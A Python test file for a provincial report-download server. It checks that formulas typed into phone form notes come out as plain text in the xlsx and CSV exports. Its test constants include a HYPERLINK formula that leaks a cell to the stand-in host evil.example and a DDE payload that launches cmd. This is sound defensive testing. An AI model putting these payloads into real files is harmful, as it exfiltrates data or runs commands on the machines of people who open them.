"""The reports a province downloads over real HTTP: what a phone typed stays text in them."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any
from xml.sax.saxutils import escape

import httpx
from openpyxl import load_workbook
from sqlalchemy import select

from pcmd.db.engine import transaction
from pcmd.db.models import SubmissionVersion
from tests.server.collect import new_id, outreach_xml, post
from tests.server.web.conftest import Site, signed_in

# What a note typed on a phone could try: a link that leaks the sheet, and a DDE command.
NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _send(site: Site, notes: str, students: int) -> str:
    instance_id = new_id()
    xml = outreach_xml(instance_id, students=students).replace(
        b"<notes/>", f"<notes>{escape(notes)}</notes>".encode()
    )
    with httpx.Client(timeout=30) as phone:
        assert post(phone, site.server, xml).status_code == 201
    return instance_id


def test_reports_download__formula_in_a_note__text_in_xlsx_and_csv(site: Site) -> None:
    first = _send(site, NOTE, 12)
    second = _send(site, NAME, 7)
    with signed_in(site, "hoa.qng") as client:
        query = {"org": "51", "period": "2026"}
        xlsx = client.get("/reports/download", params={**query, "format": "xlsx"})
        zipped = client.get("/reports/download", params={**query, "format": "csv"})
    assert (xlsx.status_code, zipped.status_code) == (200, 200)

    # xlsx: no formula anywhere in the workbook; the notes are string cells, counts numbers
    archive = zipfile.ZipFile(io.BytesIO(xlsx.content))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 6  # cover, indicators, the three forms, the breakdown by commune
    assert [n for n in sheets if "<f>" in archive.read(n).decode()] == []
    sheet = load_workbook(io.BytesIO(xlsx.content))["pcmd_outreach"]
    header = [c.value for c in sheet[1]]
    rows = {row[header.index("instance_id")].value: row for row in sheet.iter_rows(min_row=2)}
    note, students = (rows[first][header.index(c)] for c in ("notes", "reach/n_students"))
    assert (note.value, note.data_type) == (NOTE, "s")
    assert (students.value, students.data_type) == (12, "n")
    assert rows[second][header.index("notes")].value == NAME

    # CSV: the same cells begin with a quote, so a spreadsheet shows them as text
    table = zipfile.ZipFile(io.BytesIO(zipped.content)).read("pcmd_outreach.csv")
    lines = list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"))))
    by_id = {line["instance_id"]: line for line in lines}
    assert by_id[first]["notes"] == "'" + NOTE
    assert by_id[first]["reach/n_students"] == "12"
    assert by_id[second]["notes"] == "'" + NAME

    # what the phone sent is kept as it was typed
    with transaction(site.server.engine) as s:
        stored: list[dict[str, Any]] = list(s.scalars(select(SubmissionVersion.data)))
    assert {d.get("notes") for d in stored} >= {NOTE, NAME}
